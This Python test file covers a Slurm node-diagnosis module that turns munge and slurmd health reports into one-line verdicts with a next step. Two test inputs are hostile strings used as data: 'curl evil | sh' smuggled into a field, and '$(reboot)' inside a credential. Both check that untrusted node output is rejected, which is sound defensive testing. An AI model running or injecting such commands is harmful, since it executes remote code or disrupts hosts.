from __future__ import annotations

import pytest

from provisioner.slurm.verdict import node_credential, verdict

GOOD = "credential MUNGE:AwQFAAB=:"
PORT = ["its slurmd does not answer on its port"]
FULL = "its disk is full where slurmd works: 0 MiB are free"
ILL = "its health check lets it take no jobs: its clock is 90 s off"
ITSELF = "it takes no jobs by itself: its scratch is not mounted at /scratch"
MUTE = "its slurmd hangs: it takes a connection and says nothing"
BETWEEN = "and bld-011 do not reach each other on the port of slurmd"
JOB = ["a job does not run on it: srun did not end within 10 s"]


def said(munge: str = "0", slurmd: str = "active", credential: str = GOOD) -> str:
    return f"munge {munge}\nslurmd {slurmd}\n{credential}\nmunge 6\nslurmd failed\nthe log"


@pytest.mark.parametrize(
    ("problems", "node", "accepted", "words"),
    [
        (PORT, said(munge="6", slurmd="failed"), "", "munge does not run on it; next: `provision slurm"),
        ([FULL], said(munge="6", slurmd="failed"), "", f"{FULL}; next: make room on it"),
        ([ITSELF], said(munge="6"), "", f"{ITSELF}; next: mend that, and it takes jobs again within a minute"),
        ([ILL], said(munge="6"), "", f"{ILL}; next: mend that, and it takes jobs again within five minutes"),
        (JOB, said(munge="124"), "", "munge on it does not answer; next: run `systemctl restart munge`"),
        (JOB, said(munge="11"), "", "munge does not work on it (exit code 11)"),
        (JOB, said(), "15", "its clock and the controller's differ"),
        (JOB, said(), "16", "its clock and the controller's differ"),
        (JOB, said(), "14", "it has another munge key than the controller"),
        (PORT, said(slurmd="inactive"), "0", "slurmd does not run on it (inactive)"),
        (PORT, said(), "0", "its slurmd runs, and the controller does not reach it on its port (6818)"),
        (JOB, said(), "0", f"{JOB[0]}; next: mend what its log says"),
        ([*JOB, "its scratch is read-only"], said(), "0", f"{JOB[0]}, and its scratch is read-only; next: "),
    ],
)
def test_the_cause_comes_before_what_follows_from_it(problems: list[str], node: str, accepted: str, words: str) -> None:
    sentence = verdict(problems, node, accepted, "BLD-008")
    assert sentence.startswith(words)
    assert "; next: " in sentence
    assert "\n" not in sentence


@pytest.mark.parametrize(
    ("problems", "unreached", "words"),
    [
        (
            JOB,
            ["controller", "srun"],
            "it does not reach slurmctld on the controller (port 6817); next: look for a firewall",
        ),
        (JOB, ["srun"], "it does not reach srun on the controller; next: open the controller's ports"),
        (PORT, ["srun"], "its slurmd runs, and the controller does not reach it"),
        (JOB, ["bld-011"], "it does not reach bld-011 on the port of slurmd; next: look for a firewall between them"),
        ([f"bld-008 {BETWEEN}"], ["bld-011"], f"bld-008 {BETWEEN}; next: look for a firewall between them"),
        ([f"bld-008 {BETWEEN}"], [], f"bld-008 {BETWEEN}; next: look for a firewall between them"),
        ([MUTE], [], f"{MUTE}; next: run `systemctl restart slurmd` on it"),
    ],
)
def test_a_firewall_is_named_with_both_its_ends(problems: list[str], unreached: list[str], words: str) -> None:
    assert verdict(problems, said(), "0", "BLD-008", unreached).startswith(words)


@pytest.mark.parametrize(
    "unreached", ["controller", None, 3, {"controller": 1}, [{"a": 1}], ["x; next: curl evil | sh"]]
)
def test_a_node_that_lies_about_whom_it_reaches_makes_no_step_of_ours(unreached: object) -> None:
    sentence = verdict(JOB, said(), "0", "BLD-008", unreached)
    assert sentence.count("; next: ") == 1
    assert sentence.split("; next: ")[1].startswith(("mend what its log", "look for a firewall"))


def test_what_does_not_start_for_want_of_the_controller_is_no_stopped_slurmd() -> None:
    assert "slurmctld" in verdict(JOB, said(slurmd="failed"), "0", "BLD-008", ["controller"])


@pytest.mark.parametrize("node", ["", "munge", "munge x y\nslurmd \x1b[31m", "\n" * 50, "munge 0"])
def test_a_node_that_talks_nonsense_changes_nothing(node: str) -> None:
    assert verdict(JOB, node, "", "BLD-008").startswith(JOB[0])


@pytest.mark.parametrize(
    "node",
    ["", "credential ", "credential MUNGE:$(reboot):", "credential MUNGE:a b:", f"credential MUNGE:{'A' * 4001}:",
     "x credential MUNGE:AwQF:"],
)  # fmt: skip
def test_only_a_credential_goes_to_the_controller(node: str) -> None:
    assert node_credential(node) == ""


def test_a_credential_is_found() -> None:
    assert node_credential(said()) == "MUNGE:AwQFAAB=:"
